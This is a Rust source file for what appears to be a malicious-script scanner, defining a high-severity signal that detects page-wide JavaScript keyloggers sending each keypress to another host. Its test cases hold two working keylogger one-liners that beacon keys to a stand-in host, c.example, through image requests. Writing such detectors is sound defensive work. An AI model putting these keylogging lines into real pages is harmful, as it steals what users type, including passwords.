//! `each-key-reported`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "each-key-reported",
    description: "The script sends every key pressed on the page to another host in a URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::KeyEvent]), one(&[Atom::TypedKey]), one(&[Atom::Image, Atom::Request])],
    within: 60,
    only_if: Some(reports),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"document.onkeypress=function(e){new Image().src='http://c.example/?k='+e.key}"#,
            r#"document.addEventListener('keydown',ev=>{var i=new Image();i.src=`https://c.example/k?v=${encodeURIComponent(ev.key)}&u=${location.host}`})"#,
        ],
        without: &[
            r#"document.onkeypress=function(e){new Image().src='/k?'+e.key}"#,
            r#"canvas.onkeypress=function(e){new Image().src='http://c.example/?k='+e.key}"#,
            r#"document.onkeypress=function(e){if(e.key==='?')new Image().src='https://c.example/help-opened'}"#,
            r#"document.onkeydown=function(e){img.src='https://c.example/letters/'+e.key+'.png'}"#,
        ],
    },
};

fn reports(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 20);
    near.words(&["addEventListener", "onkeypress", "onkeydown", "onkeyup"]).any(|at| {
        let of_page = matches!(near.before(at, 1), "document" | "window" | "body");
        let keys = near.is(at + 1, b'=') || matches!(near.word(at + 2), "keydown" | "keyup" | "keypress");
        let Some(body) = near.function_in(at + 1..at + 7).filter(|_| of_page && keys) else { return false };
        let inside = near.among(body);
        let told = inside.words(&["key"]).any(|at| {
            let joined = (at.saturating_sub(5)..at)
                .any(|at| near.is(at, b'+') || near.kind(at) == Some(Kind::Template));
            // The picture of a letter has a name behind it.
            let named = near.is(at + 1, b'+') && near.word(at + 2).starts_with('.');
            near.kind(at) == Some(Kind::Member) && joined && !named
        });
        told && inside.has_word(&["Image", "fetch", "src"])
            && inside.texts().any(|(_, text)| {
                (text.starts_with("https://") || text.starts_with("http://")) && text.contains('?')
            })
    })
}
